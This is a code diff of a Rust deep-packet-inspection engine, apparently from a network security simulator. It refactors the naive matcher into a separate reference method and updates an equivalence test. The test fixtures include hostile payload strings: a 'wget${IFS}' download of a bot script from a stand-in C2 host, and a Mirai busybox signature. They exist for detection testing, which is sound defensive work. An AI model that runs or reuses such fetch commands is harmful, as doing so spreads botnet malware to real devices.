@@ -18,9 +18,10 @@
 //!   [`TokenIndex`] keyed by each rule's first window token and walks the
 //!   traffic token stream once, O(traffic tokens + candidate checks).
 //!
-//! The naive per-rule scans are kept behind [`PlaintextDpi::inspect_naive`]
-//! and [`EncryptedDpi::with_naive_matching`] for A/B measurement; the
-//! bench harness and property tests assert the engines agree exactly.
+//! The naive per-rule scans are kept as reference methods,
+//! [`PlaintextDpi::inspect_naive`] and [`EncryptedDpi::match_stream_naive`],
+//! for A/B measurement; the bench harness and property tests assert the
+//! engines agree exactly.
 
 use crate::bus::EvidenceBus;
 use crate::evidence::{Evidence, EvidenceKind, Layer};
@@ -158,8 +159,6 @@ pub struct EncryptedDpi {
     compiled: Vec<Vec<Token>>,
     /// Single-pass index over `compiled` (rebuilt on each session bind).
     index: TokenIndex,
-    /// When set, match via the per-rule naive scan instead of the index.
-    naive: bool,
     bus: Option<EvidenceBus>,
     /// Inspection counters.
     pub stats: DpiStats,
@@ -169,7 +168,6 @@ impl std::fmt::Debug for EncryptedDpi {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("EncryptedDpi")
             .field("rules", &self.rules.len())
-            .field("naive", &self.naive)
             .field("stats", &self.stats)
             .finish_non_exhaustive()
     }
@@ -184,7 +182,6 @@ impl EncryptedDpi {
             names,
             compiled: Vec::new(),
             index: TokenIndex::default(),
-            naive: false,
             bus: None,
             stats: DpiStats::default(),
         }
@@ -193,13 +190,6 @@ impl EncryptedDpi {
     /// Attaches the evidence bus.
     pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
         self.bus = Some(bus);
-        self
-    }
-
-    /// Selects the naive per-rule scan instead of the token index
-    /// (builder-style; used for A/B benchmarking).
-    pub fn with_naive_matching(mut self, naive: bool) -> Self {
-        self.naive = naive;
         self
     }
 
@@ -217,16 +207,7 @@ impl EncryptedDpi {
     }
 
     fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
-        if self.naive {
-            scratch.clear();
-            scratch.extend(
-                self.compiled
-                    .iter()
-                    .map(|rule| match_rule(tokens, rule).first().copied()),
-            );
-        } else {
-            self.index.find_first_per_rule_into(tokens, scratch);
-        }
+        self.index.find_first_per_rule_into(tokens, scratch);
         matches_from_firsts(&self.names, scratch)
     }
 
@@ -236,6 +217,17 @@ impl EncryptedDpi {
     pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
         let mut scratch = Vec::new();
         self.match_into(tokens, &mut scratch)
+    }
+
+    /// The per-rule token scan the index replaced, O(rules × tokens).
+    /// Kept for A/B benchmarking and as the equivalence oracle in tests.
+    pub fn match_stream_naive(&self, tokens: &[Token]) -> Vec<DpiMatch> {
+        let firsts: Vec<Option<usize>> = self
+            .compiled
+            .iter()
+            .map(|rule| match_rule(tokens, rule).first().copied())
+            .collect();
+        matches_from_firsts(&self.names, &firsts)
     }
 
     fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
@@ -451,11 +443,9 @@ mod tests {
 
     #[test]
     fn indexed_and_naive_encrypted_engines_agree() {
-        let mut indexed = EncryptedDpi::new(rules());
-        let mut naive = EncryptedDpi::new(rules()).with_naive_matching(true);
+        let mut dpi = EncryptedDpi::new(rules());
         let endpoint = Tokenizer::new(b"s").unwrap();
-        indexed.bind_session(&endpoint);
-        naive.bind_session(&endpoint);
+        dpi.bind_session(&endpoint);
         for payload in [
             &b"wget${IFS}http://cnc.evil/bot.sh"[..],
             b"prefix /bin/busybox MIRAI suffix",
@@ -464,12 +454,11 @@ mod tests {
         ] {
             let tokens = endpoint.tokenize(payload);
             assert_eq!(
-                indexed.inspect("d", &tokens, SimTime::ZERO),
-                naive.inspect("d", &tokens, SimTime::ZERO),
+                dpi.match_stream(&tokens),
+                dpi.match_stream_naive(&tokens),
                 "divergence on {payload:?}"
             );
         }
-        assert_eq!(indexed.stats, naive.stats);
     }
 
     #[test]
